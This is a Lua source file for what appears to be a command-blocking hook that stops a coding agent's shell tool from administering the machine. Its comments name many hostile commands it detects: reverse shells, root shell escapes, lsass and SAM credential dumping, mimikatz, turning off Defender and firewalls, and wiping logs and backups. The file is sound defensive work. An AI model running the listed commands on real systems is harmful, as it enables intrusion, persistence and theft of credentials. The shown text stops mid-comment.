-- system: stops machine administration: shutdown, accounts, root shells, persistence, defenses off, reverse shells, shell escapes
--
-- What it stops, in any command a shell tool (@shell) runs, however it is
-- spelled (quotes, sudo/doas/env/xargs/timeout wrappers, absolute program
-- paths, chains, $(…), sh -c '…', find -exec; read by lib/shell.lua). Each
-- deny names its rule ([rule NAME]):
--   power        shutdown, reboot, halt, poweroff, systemctl reboot/…,
--                init 0/6, kill of PID 1 or of every process, sysrq;
--                PowerShell's Stop-Computer, Restart-Computer (not -WhatIf)
--   kill-all     every process of a user killed at once (pkill -u dev,
--                killall -u dev, pkill -U 1000), every process a pattern
--                matches (pkill -f ., killall -r '.*'), and kill of such a
--                listing (kill $(pgrep -u dev), ps -u dev -o pid= | xargs
--                kill); a pattern, -P, -F, a filter (grep, awk /x/) passes
--   accounts     useradd, userdel, usermod, groupadd, passwd, chpasswd,
--                adduser, deluser, chsh, …, writes to /etc/passwd, shadow, group;
--                Windows: net user NAME PASS /add, net user NAME /delete, net
--                localgroup administrators NAME /add, New-LocalUser,
--                Add-LocalGroupMember, … (net user and net localgroup list);
--                a directory's entries changed on a server that is not this
--                machine (ldapadd/ldapmodify/ldapdelete/ldappasswd -H
--                ldap://dc…, samba-tool user create …)
--   sudoers      visudo (but visudo -c), writes to /etc/sudoers(.d), sudoers
--                named by a program that may write it (sed 'w …', tcpdump
--                -w …, gawk print > "…", python/julia/puppet code) and any
--                privileged read of it (sudo tail /etc/sudoers)
--   root-shell   sudo/doas/pkexec/su/run0 opening a shell (sudo -i, sudo
--                bash, su -, su - root), su -c running a command as root
--                (su -c 'id', su root -c …; su postgres -c … is judged like
--                any command), a privileged interactive program whose shell
--                escape gives a root shell (sudo vim/less/man/…, sudo git
--                -p/help/commit without -m: its pager or editor), a
--                privileged program told to run another (sudo tar
--                --checkpoint-action/--to-command/-I/--rsh-command, zip -TT,
--                rsync -e, man -P, ssh -o ProxyCommand, git -c core.pager=…,
--                tcpdump -z, wget --use-askpass, aria2c --on-download-…),
--                a privileged program loading a library of the caller's
--                (curl --engine x.so, openssl -engine, mysql --default-auth,
--                ctypes/Fiddle/dlopen in a one-liner), any shell escape
--                below run with privilege (sudo chroot /, sudo yarn exec
--                sh, sudo sed e), and the shell
--                escapes of common programs run with privilege (sudo find
--                -exec /bin/sh, sudo awk 'BEGIN{system("/bin/sh")}', sudo
--                python -c '…os.system("/bin/sh")', …): denied, not asked, as
--                the escape is typed where no hook sees it
--   setuid       chmod u+s/g+s/4755, install -m 4755, setcap
--   persistence  systemctl enable/disable/mask/link/edit/set-default,
--                launchctl load, update-rc.d, chkconfig, macOS's
--                LoginHook/LogoutHook (defaults write com.apple.loginwindow),
--                writes to unit and
--                autostart folders (/etc/systemd, ~/.config/systemd,
--                /etc/init.d, ~/Library/LaunchAgents, /etc/ld.so.preload, …)
--                and to shell start-up files (~/.bashrc, ~/.profile,
--                ~/.zshrc, /etc/profile, …), also by a program naming one
--                that is not only reading it (sort -o ~/.bashrc, gawk
--                'print > "~/.zshrc"', nmap -oG=…, a program the line writes
--                out and runs); cat, grep, source, diff … of one pass;
--                Windows: the registry's autostart keys (…\CurrentVersion\Run,
--                RunOnce, Winlogon, Image File Execution Options, services)
--                written by reg add/delete/import or New-/Set-ItemProperty,
--                sc create, sc config binpath=, New-Service, a copy into a
--                Startup folder, a WMI event subscription (__EventFilter,
--                CommandLineEventConsumer), UserInitMprLogonScript (reg
--                query passes)
--   ssh-keys     writes to authorized_keys (the same ways), ssh-copy-id
--   cron         crontab -r/-e/FILE, at, writes to /etc/cron*, /var/spool/cron;
--                Windows: schtasks /create|/change|/delete, Register-/Set-/
--                Unregister-ScheduledTask (schtasks /query passes)
--   firewall     iptables/ip6tables changes (-F, -X, -P, -A, -D, …),
--                iptables-restore, nft changes (flush ruleset, delete, add,
--                -f), ufw changes (disable, reset, allow, …), firewall-cmd
--                changes, pfctl -d/-F/-f (not -n), netsh advfirewall,
--                New-/Set-/Remove-/Disable-NetFirewallRule, Set-NetFirewallProfile
--                (but -Enabled True), netsh interface portproxy changes, RDP
--                let in (Terminal Server's fDenyTSConnections); macOS
--                socketfilterfw --setglobalstate off, --add, --unblockapp,
--                defaults write com.apple.alf
--   disks        fdisk, sfdisk, gdisk, sgdisk, parted changes, wipefs -a,
--                mkfs (but of an image file in the project), raw writes to
--                disk devices, cryptsetup/mdadm erasures,
--                btrfs device remove/replace/add, check --repair, rescue,
--                resize; pvmove, pvcreate, vgreduce; nbd-client -d, losetup
--                -d; fsck/e2fsck/xfs_repair repairs (not -n), resize2fs,
--                tune2fs changes; Windows: format X:, diskpart, cipher /w,
--                Format-Volume, Clear-Disk, Initialize-Disk, …-Partition
--   kernel       insmod, rmmod, modprobe (load or -r), kexec, sysctl -w,
--                writes to /proc/sys; macOS kextload, kextunload, kmutil
--                load/unload/install
--   share        a folder shared over the network: net share NAME=PATH, net
--                usershare add, New-SmbShare, Grant-SmbShareAccess,
--                Set-SmbShare, exportfs -o/-i or of host:/path (listing passes)
--   network-off  the machine cut off its network: nmcli networking off,
--                nmcli radio … off, device disconnect, connection down; ip
--                link set … down; ifconfig IF down; ifdown; networksetup
--                -setairportpower/-setnetworkserviceenabled … off, -setv4off;
--                rfkill block (status and listings pass)
--   boot         grub-install, update-grub, grub-mkconfig -o, efibootmgr
--                changes, bootctl changes, bcdedit; macOS nvram writes
--                (boot-args=…, -d, -c; -p prints), bless --setBoot
--   audit        auditctl -D/-d/-W/-e 0 and never rules; auditpol /clear,
--                /remove, /success:disable, /failure:disable
--   mac          setenforce 0, setsebool, semanage permissive, semodule -d/-r,
--                aa-teardown, aa-disable, aa-complain, apparmor_parser -R;
--                macOS Gatekeeper off (spctl --master-disable/--global-disable,
--                --add, a download's quarantine mark removed: xattr -d
--                com.apple.quarantine, xattr -c) and SIP off (csrutil
--                disable/clear)
--   mounts       mount -o remount (sudo mount -o remount,rw /), a mount over
--                / or a system folder (mount --bind x /etc), umount of one
--   security-services  stopping, disabling, masking or killing a security
--                service (SETTINGS.security_services): systemctl, service,
--                /etc/init.d/X stop, update-rc.d, chkconfig, rc-service,
--                kill/pkill/killall, sysrc NAME_enable=NO; Microsoft Defender
--                off (Set-MpPreference -Disable… $true, Set-/Add-MpPreference
--                -Exclusion…; mdatp config … disabled, mdatp exclusion add;
--                sc stop/config … disabled/delete, net stop, Stop-/Set-/
--                Remove-Service of one (WinDefend, EventLog, MpsSvc, …); reg
--                add of Defender's or the firewall's policy keys; Defender
--                uninstalled (Uninstall-WindowsFeature, dism /disable-feature))
--   services     the same for the services the machine needs to be reached
--                and to run (SETTINGS.critical_services: sshd, networking,
--                NetworkManager, dbus, cron, …)
--   logs         deleting or truncating files under /var/log (appends are
--                fine), journalctl --vacuum-*, dmesg -C, macOS log erase,
--                osascript deleting a log file; Windows: wevtutil cl/sl
--                /e:false/um, Clear-/Remove-/Limit-EventLog, fsutil usn
--                deletejournal, deleting files under winevt\Logs (wevtutil
--                qe, Get-EventLog pass)
--   reverse-shell  /dev/tcp and /dev/udp to a host that is not the machine
--                itself, nc/ncat -e/-c, socat with EXEC/SYSTEM and a
--                network address, a pipeline joining a shell and a raw
--                network client (mkfifo … | sh -i | nc …), interpreter
--                one-liners with a socket and a shell or exec
--                (python/perl/ruby/php/node/lua/pwsh), pty.spawn, gawk /inet/
--   recovery     deleting snapshots and backups: lvremove, vgremove,
--                zfs/zpool destroy, btrfs subvolume delete, timeshift
--                --delete(-all), snapper delete, tmutil delete/disable,
--                vssadmin, wbadmin, reagentc /disable (backup programs with
--                a repository, restic, borg, rclone, are the cloud pack's), a
--                recursive rm or find -delete of a backup folder
--                (SETTINGS.backup_folders) anywhere, and rm of a file in one
--                outside the project
--   credential-dump  Windows' password hashes and secrets taken: reg save
--                of the SAM, SYSTEM or SECURITY hive, ntdsutil, a shadow copy
--                made (vssadmin create shadow, wmic shadowcopy call create),
--                NTDS.dit or the hives copied (from a shadow copy), lsass's
--                memory dumped (procdump, rundll32 comsvcs.dll MiniDump,
--                createdump, Out-Minidump), mimikatz; WDigest's
--                UseLogonCredential or LSA's protection changed; netsh wlan
--                … key=clear
--   package-file a package file installed with privilege (sudo dpkg -i x.deb,
--                rpm -ivh x.rpm, yum localinstall, apt install ./x.deb,
--                pacman -U, snap --dangerous): its scripts run as root
--   root-server  a file server or API proxy run with privilege (sudo php -S,
--                python -m http.server, ruby -run -e httpd, busybox httpd,
--                kubectl proxy)
--   system-files writes, moves, deletes and permission changes of files in
--                the system folders (SETTINGS.system_folders, but
--                SETTINGS.writable): cp, mv, tee, redirections, sed -i, rm,
--                chmod, chattr, mkdir, sudoedit, find -delete; Windows:
--                icacls (its changes), cacls, takeown, Set-Acl of C:\Windows,
--                Program Files, ProgramData or a drive's root
--
-- Asked about, not denied (each by its setting: escapes, as_root, service_stops):
--   shell-escape (SETTINGS.escapes) an interactive shell whose commands no
--                hook sees: a shell with no script (bash, exec zsh -l, nice
--                /bin/sh, find -exec sh, awk 'BEGIN{system("sh")}', sh
--                </dev/tty), a program
--                told to start one (setarch/unshare/nsenter/cpulimit/
--                ssh-agent/rlwrap/tmux/start-stop-daemon … /bin/sh, yarn
--                exec sh, gem open -e sh, rpm --eval '%(sh)', make --eval
--                '$(shell sh)', vi -c ':shell', gdb -ex '!sh', mysql -e
--                '\! sh', sqlite3 '.shell sh', sed e, tar/zip/rsync/ssh's
--                command options, julia/R/ghc/jrunscript code), one started
--                by default (chroot /, capsh --, script, unshare), a variable
--                naming the program another runs (PAGER='sh …', LESSOPEN,
--                PERL5DB, BASH_ENV), a REPL fed an escape through a pipe, a
--                file the line writes out to start one (a package.json
--                script, a Gemfile's system("sh"), a program's source).
--                Package names, look-ups (which bash, man bash), text
--                tools, containers and remote hosts (docker run -it x sh,
--                kubectl exec, ssh host) are not launchers here.
--   as-root      (SETTINGS.as_root) any other command run as root: sudo,
--                doas, pkexec or run0 naming no user or root (sudo -u root,
--                sudo -s/-i CMD, sudo env X=1 CMD, xargs sudo CMD), and the
--                commands of a shell or find -exec it runs (sudo sh -c
--                '…', sudo find … -exec …); sudo -e/sudoedit. Run as root a
--                program may write any file, load code or open a shell
--                (sudo cp, sudo gcc -o, sudo git apply --directory /, sudo
--                node -e '…', sudo make install, sudo bash x.sh): which of
--                hundreds can is not listed, what only reads is
--                (SETTINGS.as_root_reads: ls, cat, ps, ss, journalctl,
--                systemctl status/restart, git status/log/diff, apt list,
--                docker ps/logs, kubectl get, …; subcommand-aware). A
--                shell's code on the line is read command by command, not
--                asked about; the system's package managers (sudo apt-get
--                install …) are the packages pack's. Another user's command
--                (sudo -u postgres psql) is judged like any other.
--   service-stop (SETTINGS.service_stops) stopping any other service:
--                systemctl stop/kill/freeze/isolate, service X stop,
--                invoke-rc.d, rc-service, /etc/init.d/X stop, initctl stop,
--                brew services stop, snap stop/disable, launchctl stop/kill/
--                remove, nginx -s stop/quit, apachectl stop/graceful-stop,
--                sv down, s6-svc -d, caddy stop, net stop, sc stop/delete, a
--                load balancer's runtime API told to disable a server (echo
--                'disable server be/x' | socat stdio /run/haproxy.sock).
--                Start, restart and reload pass (the service keeps running;
--                haproxy -sf/-st is its reload), and so do process managers
--                of one's own programs (pm2, supervisorctl) and kill.
--
-- Why: each changes the machine rather than the project, turns a defense
-- off, opens it to the network or destroys the way back; a coding agent
-- needs none of it, and the user can run the command themselves.
--
-- PowerShell (the PowerShell tool, pwsh/powershell -c in a shell line,
-- cmd /c, a line that reads as PowerShell) is read by lib/pwsh.lua.
--
-- What passes: reading the system (id, whoami, sudo -l, sudo -v, crontab -l,
-- iptables -L, nft list ruleset, ufw status, firewall-cmd --list-all,
-- getenforce, aa-status, auditctl -l, systemctl status/start/restart,
-- journalctl -u x, fdisk -l, lsmod, sysctl -a, mount, findmnt, spctl
-- --status, csrutil status, Get-MpPreference, net user, ls /etc, cat /etc/os-release,
-- cp /etc/x ./), reading it with sudo (sudo ls, sudo git status, sudo
-- systemctl restart nginx, sudo bash -c '…' whose commands each pass),
-- writes below SETTINGS.writable (/usr/local) and anything inside the
-- project (the payload's cwd). Installing packages (sudo apt-get install …)
-- is the packages pack's business, not this one's.
--
-- Set them in the config's [packs.system] table, over the defaults below.
-- Settings (SETTINGS below):
--   allow              names of the rules above to turn off ({ "power" }
--                      lets the agent reboot a throwaway machine)
--   security_services  the services whose stop, disable, mask or kill is
--                      turning a defense off (unit names, any .service suffix)
--   critical_services  the services whose stop, disable, mask or kill cuts
--                      the machine off or breaks it
--   system_folders     folders whose files belong to the system
--   writable           folders inside system_folders where writes are fine
--   backup_folders     folder names whose deletion is destroying backups
--   escapes            "ask" (default), "deny" or "allow": the verdict on
--                      an unprivileged shell escape (rule shell-escape)
--   as_root            "ask" (default), "deny" or "allow": the verdict on a
--                      command run as root that is not one of as_root_reads
--                      (rule as-root)
--   as_root_reads      what passes run as root: "prog" (any use of it), or
--                      "prog WORD …", each WORD the next operand ("*" any,
--                      "$" no more operands) or an option given anywhere
--                      ("crontab -l", "git status", "service * status", "ip
--                      addr $"). A program whose changes another rule
--                      denies (fdisk, sysctl, iptables) may be listed whole
--   service_stops      "ask" (default), "deny" or "allow": the verdict on
--                      stopping a service that is neither a security nor a
--                      critical one (rule service-stop)
--
-- What it cannot know: a script the command runs (./setup.sh, sudo bash
-- install.sh) is not read; a shell escape typed inside an interactive
-- program is not seen (which is why a privileged pager or editor is
-- denied outright); paths are judged as written (a symbolic link into /etc
-- is not followed, and the project is the payload's cwd); a host name is
-- not resolved (only localhost and 127.x/::1 count as the machine itself).
-- A command the parser cannot read within its limits is denied.

local shell = require("shell")
local danger = require("danger")
local paths = require("paths")
local pwsh = require("pwsh")

local SETTINGS = hook.settings("system", {
  allow = {},
  security_services = { "auditd", "apparmor", "selinux", "firewalld", "ufw", "nftables", "iptables", "ip6tables",
    "netfilter-persistent", "fail2ban", "clamav-daemon", "clamav-freshclam", "clamd", "freshclam", "falcon-sensor",
    "falcond", "osqueryd", "wazuh-agent", "wazuh-manager", "ossec", "sysmon", "sysmonforlinux", "mdatp",
    "sentinelone", "sentinel-agent", "cbagentd", "elastic-agent", "elastic-endpoint", "auditbeat", "rsyslog",
    "syslog", "syslog-ng", "systemd-journald", "aide", "tripwire", "snort", "suricata", "zeek", "falco", "tetragon",
    "crowdstrike", "qualys-cloud-agent", "amazon-guardduty-agent", "google-guest-agent", "syslogd", "pf", "pflog",
    "ipfw", "wdavdaemon", "auditbeat", "WinDefend", "WdNisSvc", "WdFilter", "WdBoot", "Sense", "MpsSvc", "BFE",
    "EventLog", "wscsvc", "SecurityHealthService", "Sysmon64", "wecsvc" },
  critical_services = { "ssh", "sshd", "openssh-server", "networking", "network", "NetworkManager", "systemd-networkd",
    "systemd-resolved", "dbus", "dbus-broker", "systemd-logind", "cron", "crond", "polkit", "getty@tty1", "chronyd",
    "systemd-timesyncd", "containerd" },
  system_folders = { "/etc", "/boot", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/sys",
    "/proc/sys", "/System", "/Library" },
  writable = { "/usr/local" },
  backup_folders = { "backup", "backups", ".snapshots", "snapshots", "timeshift", "Backups.backupdb", ".zfs",
    ".backup", ".backups" },
  -- the verdict on an unprivileged shell escape: "ask", "deny" or "allow"
  escapes = "ask",
  -- the verdict on any other command run as root: "ask", "deny" or "allow"
  as_root = "ask",
  -- what passes run as root: "prog" (any use), or "prog WORD …" where each
  -- WORD is the next operand ("*" any, "$" no more) or an option given
  -- anywhere ("-l", "--list")
  as_root_reads = { "ls", "dir", "cat", "head", "tail", "grep", "egrep", "fgrep", "zgrep", "zcat", "rg", "ag",
    "wc", "stat", "file", "du", "df", "ps", "pgrep", "pidof", "lsof", "ss", "netstat", "dmesg", "id", "whoami",
    "groups", "who", "w", "last", "lastb", "lastlog", "uptime", "uname", "free", "vmstat", "iostat", "mpstat",
    "pidstat", "lsblk", "blkid", "lscpu", "lspci", "lsusb", "lsmod", "lshw", "lsns", "lsipc", "dmidecode",
    "findmnt", "getent", "printenv", "env", "echo", "printf", "true", "test", "which", "whereis", "readlink",
    "realpath", "basename", "dirname", "md5sum", "sha1sum", "sha256sum", "sha512sum", "b2sum", "cksum", "tree",
    "find", "locate", "lsattr", "getfacl", "getcap", "namei", "strings", "od", "xxd", "hexdump", "diff", "cmp",
    "jq", "sysctl", "modinfo", "journalctl", "ausearch", "aureport", "getenforce", "sestatus", "aa-status",
    "getsebool", "ping", "traceroute", "tracepath", "dig", "nslookup", "host", "fdisk", "sfdisk", "parted",
    "efibootmgr", "lvs", "vgs", "pvs", "lvdisplay", "vgdisplay", "pvdisplay", "atq", "crontab -l",
    "auditctl -l", "auditctl -s", "iptables -L", "iptables -S", "iptables --list", "iptables --list-rules",
    "ip6tables -L", "ip6tables -S", "iptables-save", "ip6tables-save", "nft list", "ufw status", "ufw show",
    "firewall-cmd --list-all", "firewall-cmd --state", "ip * show", "ip * list", "ip * ls", "ip * get",
    "ip addr $", "ip a $", "ip address $", "ip route $", "ip r $", "ip link $", "ip l $", "ip neigh $",
    "ip rule $", "mount $", "swapon --show", "systemctl $", "systemctl status", "systemctl show",
    "systemctl cat", "systemctl list-units", "systemctl list-unit-files", "systemctl list-timers",
    "systemctl list-sockets", "systemctl list-dependencies", "systemctl list-jobs", "systemctl is-active",
    "systemctl is-enabled", "systemctl is-failed", "systemctl is-system-running", "systemctl get-default",
    "systemctl show-environment", "systemctl start", "systemctl restart", "systemctl reload",
    "systemctl try-restart", "systemctl reload-or-restart", "systemctl daemon-reload", "systemctl reset-failed",
    "service * status", "service * start", "service * restart", "service * reload", "service --status-all",
    "loginctl list-sessions", "loginctl list-users", "loginctl session-status", "loginctl user-status",
    "loginctl show-session", "timedatectl status", "timedatectl $", "hostnamectl status", "hostnamectl $",
    "resolvectl status", "resolvectl query", "networkctl status", "networkctl list", "launchctl list",
    "launchctl print", "nginx -t", "nginx -T", "nginx -v", "nginx -V", "nginx -s reload", "apachectl configtest",
    "apachectl -t", "apachectl -S", "apache2ctl configtest", "apache2ctl -t", "apache2ctl -S", "haproxy -c",
    "haproxy -v", "haproxy -vv", "git status", "git log", "git diff", "git show", "git blame", "git ls-files",
    "git ls-tree", "git rev-parse", "git describe", "git shortlog", "git grep", "git cat-file", "git version",
    "git branch $", "git remote $", "git config --list", "git config -l", "git config --get", "apt list",
    "apt show", "apt search", "apt policy", "apt depends", "apt rdepends", "apt update", "apt-get update",
    "apt-cache", "apt-mark showmanual", "apt-mark showhold", "apt-mark showauto", "dpkg -l", "dpkg -L",
    "dpkg -s", "dpkg -S", "dpkg --list", "dpkg --listfiles", "dpkg --status", "dpkg --search",
    "dpkg --get-selections", "dpkg --print-architecture", "dpkg-query", "rpm -q", "rpm --query", "rpm -V",
    "rpm --verify", "dnf list", "dnf info", "dnf search", "dnf repolist", "dnf provides", "dnf check-update",
    "dnf makecache", "yum list", "yum info", "yum search", "yum repolist", "yum provides", "yum check-update",
    "yum makecache", "zypper search", "zypper info", "zypper refresh", "zypper repos", "apk info", "apk search",
    "apk update", "pacman -Q", "pacman -Ss", "pacman -Si", "snap list", "snap info", "snap find",
    "snap changes", "snap services", "flatpak list", "flatpak info", "pip list", "pip show", "pip freeze",
    "pip3 list", "pip3 show", "pip3 freeze", "npm ls", "npm list", "npm view", "npm outdated",
    "docker ps", "docker images", "docker logs", "docker inspect", "docker version", "docker info",
    "docker stats", "docker top", "docker port", "docker diff", "docker history", "docker events",
    "docker search", "docker container ls", "docker container list", "docker container ps",
    "docker container inspect", "docker container logs", "docker image ls", "docker image list",
    "docker image inspect", "docker image history", "docker volume ls", "docker volume inspect",
    "docker network ls", "docker network inspect", "docker system df", "docker system info",
    "docker context ls", "docker compose ps", "docker compose logs", "docker compose config", "docker compose ls",
    "docker-compose ps", "docker-compose logs", "docker-compose config", "podman ps", "podman images",
    "podman logs", "podman inspect", "podman version", "podman info", "crictl ps", "crictl pods",
    "crictl images", "crictl logs", "crictl inspect", "crictl info", "kubectl get", "kubectl describe",
    "kubectl logs", "kubectl top", "kubectl version", "kubectl cluster-info", "kubectl api-resources",
    "kubectl explain", "kubectl auth can-i", "kubectl config view", "kubectl config get-contexts",
    "kubectl config current-context", "kubectl rollout status", "kubectl rollout history", "zfs list",
    "zfs get", "zpool status", "zpool list", "btrfs filesystem show", "btrfs filesystem df",
    "btrfs filesystem usage", "btrfs subvolume list", "btrfs subvolume show", "mdadm --detail",
    "cryptsetup status", "dmsetup ls", "dmsetup info", "dmsetup status", "nvme list", "smartctl -a",
    "smartctl -i", "smartctl -H", "smartctl -x", "smartctl --scan", "shutdown -c", "visudo -c", "visudo --check",
    "sgdisk -p", "sgdisk --print" },
  -- the verdict on stopping a service that is neither a security service
  -- nor a critical one (those are denied): "ask", "deny" or "allow"
  service_stops = "ask",
})
for _, k in ipairs({ "escapes", "as_root", "service_stops" }) do
  local v = SETTINGS[k]
  if v ~= "ask" and v ~= "deny" and v ~= "allow" then
    error("system pack: SETTINGS." .. k .. " is " .. tostring(v) .. "; want \"ask\", \"deny\" or \"allow\"")
  end
end

-- unit_name returns a unit name without its type suffix or instance,
-- lower-cased ("sshd.service" -> "sshd", "getty@tty1" -> "getty").
local function unit_name(s)
  return (s:lower():gsub("%.service$", ""):gsub("%.socket$", ""):gsub("%.timer$", ""):gsub("@.*$", ""))
end

local ALLOWED = {}
for _, n in ipairs(SETTINGS.allow) do ALLOWED[n] = true end
local SECURITY = {}
for _, n in ipairs(SETTINGS.security_services) do SECURITY[unit_name(n)] = true end
local CRITICAL = {}
for _, n in ipairs(SETTINGS.critical_services) do CRITICAL[unit_name(n)] = true end
local BACKUPS = {}
for _, n in ipairs(SETTINGS.backup_folders) do BACKUPS[n:lower()] = true end

local SHELLS = { sh = true, bash = true, zsh = true, dash = true, ksh = true, ash = true, mksh = true, yash = true,
  posh = true, fish = true, csh = true, tcsh = true, rbash = true }

-- A shell named inside a word: "/bin/sh", "exec=/bin/bash", "'!sh'",
-- "sh -c …", "system(\"bash\")"; not "x.sh" or "zsh-completions".
local SHELL_REF = "(?i)(?:^|[\\s/!=:;'\"(|&`,])(?:ba|z|da|k|mk|tc|c|fi|a|rba)?sh(?:$|[\\s'\";)&|`,])"

-- set makes a lookup table of a list.
local function set(list)
  local t = {}
  for _, v in ipairs(list) do t[v] = true end
  return t
end

-- flag reports whether an option is given: a short letter of shorts (in a
-- cluster: -rf) or a long name of longs, a string of names separated by
-- spaces (--name or --name=value). Strings, not tables: a rule runs on
-- every command of every call, and a table literal would be built each time.
local function flag(c, shorts, longs)
  for _, a in ipairs(c.args) do
    local t = a.text
    if t == "--" then return false end
    if t:sub(1, 2) == "--" then
      if longs and (" " .. longs .. " "):find(" " .. t:sub(3):match("^[^=]*") .. " ", 1, true) then return true end
    elseif shorts and t:sub(1, 1) == "-" and #t > 1 and t:sub(2):find("^[%w]+$") then
      if t:sub(2):find("[" .. shorts .. "]") then return true end
    end
  end
  return false
end

-- operands returns the words of c that are not options, lower-cased texts
-- in the second list.
local function operands(c)
  local ws, ts = {}, {}
  for _, a in ipairs(c.args) do
    if a.unknown or a.text:sub(1, 1) ~= "-" then
      ws[#ws + 1] = a
      ts[#ts + 1] = a.text:lower()
    end
  end
  return ws, ts
end

-- any_arg reports whether an RE2 pattern matches one of c's arguments.
local function any_arg(c, pattern)
  for _, a in ipairs(c.args) do
    if re.match(pattern, a.text) then return true end
  end
  return false
end

-- privileged reports whether c runs with another user's rights: behind
-- sudo, doas, pkexec or run0, or reached through su -c / runuser -c.
local PRIV = set({ "sudo", "doas", "pkexec", "run0" })
local function privileged(c)
  if c.system_root then return true end
  for _, w in ipairs(c.wrappers) do
    if PRIV[w] then return true end
  end
  return c.via == "su -c" or c.via == "runuser -c"
end

-- place returns the absolute, clean path a word names, resolved against
-- cwd, or nil when part of the word is unknown ($X, $(…)).
local function place(w, cwd)
  local p = paths.word(w)
  return p and paths.resolve(p, cwd) or nil
end

-- under reports whether abs is one of folders or below one.
local function under(abs, folders)
  for _, f in ipairs(folders) do
    if paths.inside(abs, f) then return true end
  end
  return false
end

-- project reports whether abs is inside the payload's cwd, when that is a
-- project and not / or a system folder itself.
local SYSTEM_ROOTS = set(SETTINGS.system_folders)
local function project(abs, cwd)
  if type(cwd) ~= "string" or cwd == "/" or SYSTEM_ROOTS[paths.clean(cwd)] or cwd:sub(1, 1) ~= "/" then
    return false
  end
  return paths.inside(abs, cwd)
end

local REMOVERS = set({ "rm", "rmdir", "shred", "unlink", "wipe", "srm" })
local CHANGERS = set({ "chmod", "chown", "chgrp", "chattr", "setfacl", "mkdir", "mknod", "mkfifo" })

-- targets returns what c writes, moves, deletes or changes: { word, kind }
-- with kind "append" for >> and tee -a, "delete" for removals, "write"
-- otherwise.
local function targets(c)
  local out = {}
  for _, r in ipairs(c.redirs) do
    local op = r.op
    if op == ">>" or op == "&>>" then
      out[#out + 1] = { r.target, "append" }
    elseif op == ">" or op == ">|" or op == "&>" or op == "<>"
      or (op == ">&" and not r.target.text:find("^%d*%-?$")) then
      out[#out + 1] = { r.target, "write" }
    end
  end
  local n = c.name
  if not n or n == "" then return out end
  local appending = n == "tee" and flag(c, "a", "append")
  for _, w in ipairs(paths.writes({ name = n, args = c.args, redirs = {} })) do
    out[#out + 1] = { w, appending and "append" or "write" }
  end
  local ws = operands(c)
  if REMOVERS[n] then
    for _, w in ipairs(ws) do out[#out + 1] = { w, "delete" } end
  elseif n == "mv" then
    for k = 1, #ws - 1 do out[#out + 1] = { ws[k], "delete" } end
  elseif CHANGERS[n] or n == "sudoedit" or (n == "sudo" and flag(c, "e", "edit")) then
    for _, w in ipairs(ws) do out[#out + 1] = { w, "write" } end
  elseif n == "find" then
    local acts = false
    for _, a in ipairs(c.args) do
      if a.text == "-delete" or a.text == "-exec" or a.text == "-execdir" then acts = true end
    end
    if acts then
      for _, a in ipairs(c.args) do
        if a.text:find("^[-(!]") then break end
        out[#out + 1] = { a, "delete" }
      end
    end
  end
  return out
end

-- outside returns the targets of c (computed once per command, as most
-- rules look at them) and those of them outside the project, as
-- { abs, kind, word }.
local function outside(c, cwd)
  local t = c.system_targets
  if t then return t, c.system_outside end
  t = targets(c)
  local out = {}
  for _, x in ipairs(t) do
    local abs = place(x[1], cwd)
    if abs and not project(abs, cwd) then out[#out + 1] = { abs, x[2], x[1] } end
  end
  c.system_targets, c.system_outside = t, out
  return t, out
end

-- has_outside reports whether c has a target outside the project: rules
-- test it first so that a command without one builds no closure.
local function has_outside(c, cwd)
  local _, out = outside(c, cwd)
  return #out > 0
end

-- touches calls fn(abs, kind) for every target of c outside the project,
-- until fn returns true.
local function touches(c, cwd, fn)
  local _, out = outside(c, cwd)
  for _, x in ipairs(out) do
    if fn(x[1], x[2]) then return true end
  end
  return false
end

local unit = unit_name

-- Files a program other than a reader must not name: shell start-up
-- files (persistence), sudoers (sudoers) and SSH's authorized keys
-- (ssh-keys). A word is matched as text, so that a path inside inline
-- code (gawk 'BEGIN { print "x" > "/home/u/.bashrc" }', sed 'w FILE',
-- julia -e 'open(…)') or an option's value (sort -o FILE, tcpdump -w FILE,
-- nmap -oG=FILE) counts as well as an operand.
local HOME_RE = "(?:^|[^\\w.-])(?:~[\\w.-]*|\\$\\{?HOME\\}?|/home/[^/\\s'\"]+|/Users/[^/\\s'\"]+|/root|/var/root)"
local STARTUP_RE = "(?i)" .. HOME_RE .. "/\\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|" ..
  "zprofile|zlogin|zlogout|kshrc|mkshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsessionrc|pam_environment|" ..
  "config/fish/config\\.fish)(?:$|[^\\w.-])|/etc/(?:profile|bash\\.bashrc|bashrc|zshrc|zprofile|zshenv|" ..
  "zlogin|zsh/|environment|csh\\.cshrc|csh\\.login)(?:$|[^\\w.-])"
local SUDOERS_RE = "(?:/etc|/usr/local/etc|/private/etc)/sudoers|/etc/doas\\.conf"
local AUTHKEYS_RE = "(?:\\.ssh|/etc/ssh)/(?:[^\\s'\"]*/)?authorized_keys2?(?:$|[^\\w.-])"
-- a quick test before the three above: a word naming none of them is read once
local GUARDED_RE = "(?i)rc(?:$|[^\\w])|profile|login|logout|zshenv|environment|config\\.fish|pam_env|xinitrc|" ..
  "xsessionrc|sudoers|doas\\.conf|authorized_keys"

-- READERS only read the files they name (or print the name): naming a
-- guarded file is fine, unless they run with privilege and it is sudoers.
local READERS = set({ "cat", "less", "more", "most", "head", "tail", "grep", "egrep", "fgrep", "zgrep", "rg", "ag",
  "ack", "diff", "cmp", "colordiff", "ls", "stat", "file", "wc", "md5sum", "sha1sum", "sha256sum", "sha512sum",
  "b2sum", "cksum", "source", ".", "test", "[", "[[", "echo", "printf", "readlink", "realpath", "basename",
  "dirname", "bat", "batcat", "nl", "strings", "od", "xxd", "hexdump", "shellcheck", "lsattr", "getfacl", "du",
  "view", "code", "visudo" })
-- TARGETED programs' writes are read by targets() (cp's last operand,
-- rm's operands, …): naming a guarded file as their source reads it.
local TARGETED = set({ "cp", "mv", "ln", "install", "rsync", "scp", "tee", "touch", "truncate", "dd" })
for k in pairs(REMOVERS) do TARGETED[k] = true end
for k in pairs(CHANGERS) do TARGETED[k] = true end
-- FILTERS read the files they are given as operands; only a guarded file
-- named inside their program text or as an output option's value counts.
local FILTERS = set({ "sed", "gsed", "awk", "gawk", "mawk", "nawk", "sort", "cut", "tr", "uniq", "jq", "yq", "tac",
  "rev", "fold", "fmt", "column", "paste", "join", "comm", "expand", "iconv", "envsubst", "base64", "sha", "perl" })
local OUTPUT_OPT = set({ "-o", "--output", "-w", "--write" })

-- folded returns a word with the path spellings that name the same file
